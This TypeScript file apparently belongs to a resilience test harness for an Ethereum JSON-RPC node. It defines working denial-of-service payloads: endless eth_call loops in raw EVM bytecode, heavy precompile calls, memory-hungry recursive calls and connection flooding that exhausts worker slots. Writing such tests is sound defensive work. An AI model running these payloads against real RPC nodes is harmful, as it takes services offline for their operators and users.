import { availableParallelism } from 'node:os'
import { assemble } from '../../../_helpers/evmScene.ts'
import type { Attack, Question, Target } from '../attack.ts'
import { type Connection, toBody } from '../connection.ts'

/** Each worker has room for 80 calls, which run or wait. */
const MORE_THAN_ROOM = 80 * availableParallelism() + 10
const DEEP_CALLS = 16
const MEBIBYTE = 2 ** 20
const SELF = `0x${'c0'.repeat(20)}`
/** More than any call uses up. */
const GAS = '0x5af3107a4000'
const SHA256 = 2
const MODEXP = 5
const HD_WALLET_UTILS = 0x01000009
const LONG_NUMBER = 17_000

/** Takes a worker, however short it is. */
export const SIMULATION: Question = {
  method: 'eth_simulateV1',
  params: [{ blockStateCalls: [{ calls: [{ to: SELF }] }] }, 'latest'],
}

const callOf = (data: string): Question => ({ method: 'eth_call', params: [{ data, gas: GAS }, 'latest'] })

const ENDLESS = callOf('0x5b600056')

/** What comes before, then calls of a contract with so much of the memory, without end. */
function callForEver(contract: number, size: number, ...before: readonly (number | string | bigint)[]): Question {
  const prologue = before.length === 0 ? '' : assemble(...before).slice(2)
  const loop = assemble('5b', 0, 0, size, 0, contract, '5a', 'fa', '50', prologue.length / 2, '56').slice(2)
  return callOf(`0x${prologue}${loop}`)
}

const store = (at: number, word: number | bigint) => [word, at, '52'] as const
const ONES = 2n ** 256n - 1n

const NATIVE = [
  callForEver(SHA256, 2 * MEBIBYTE),
  callForEver(
    MODEXP,
    96 + 2 * LONG_NUMBER + 2,
    ...[...store(0, LONG_NUMBER), ...store(32, 2), ...store(64, LONG_NUMBER)],
    ...[...store(96, ONES), ...store(96 + LONG_NUMBER, ONES)],
  ),
  callForEver(HD_WALLET_UTILS, 2 * MEBIBYTE),
]

/** Calls itself as deep as it goes, a mebibyte of memory in each frame, and then again. */
const DEEP_CODE = assemble('5b', 1, MEBIBYTE, '52', 0, 0, 0, 0, '30', '5a', 'fa', '50', 0, '56')
const DEEP: Question = {
  method: 'eth_call',
  params: [{ to: SELF, gas: GAS }, 'latest', { [SELF]: { code: DEEP_CODE } }],
}

/** Fills all places and lines, which is known when some are refused. Gives the connections. */
async function fillLines(target: Target, questionOf: (index: number) => Question): Promise<Connection[]> {
  const refusedBefore = target.refused
  const connections = await target.openMany(MORE_THAN_ROOM)
  for (const [index, { post }] of connections.entries()) {
    const { method, params } = questionOf(index)
    post(toBody(method, params))
  }
  await target.until(() => target.refused > refusedBefore)
  return connections
}

const TRACE: Question = { method: 'debug_traceCall', params: [ENDLESS.params[0], 'latest'] }

/** Leaves without a reset, as a `fetch` that is aborted. */
async function fillAndAbort(target: Target): Promise<void> {
  for (const { socket } of await fillLines(target, () => ENDLESS)) socket.destroy()
}

const endless: Omit<Attack, 'name' | 'begin'> = { rival: SIMULATION, ends: 'never', mostOvertakes: 0 }

export const callAttacks: readonly Attack[] = [
  {
    ...endless,
    name: 'endless calls',
    async begin(target) {
      target.keepAsking(await target.openMany(MORE_THAN_ROOM), ENDLESS)
      await target.until(() => target.refused > 0)
    },
  },
  {
    ...endless,
    name: 'endless traces',
    // Those that are not refused for the memory of all end at the size of one trace.
    ends: 'sometimes',
    mostOvertakes: 1,
    async begin(target) {
      target.keepAsking(await target.openMany(MORE_THAN_ROOM), TRACE)
      await target.until(() => target.refused > 0)
    },
  },
  {
    ...endless,
    name: 'native contracts in endless calls',
    async begin(target) {
      await fillLines(target, (index) => NATIVE[index % NATIVE.length] ?? ENDLESS)
    },
  },
  {
    ...endless,
    name: 'deep frames with memory',
    async begin(target) {
      target.keepAsking(await target.openMany(DEEP_CALLS), DEEP)
      await target.until(() => target.refused > 0)
    },
  },
  {
    ...endless,
    name: 'endless calls, aborted',
    async begin(target) {
      target.repeat(() => fillAndAbort(target))
      await target.until(() => target.refused > 0)
    },
  },
]
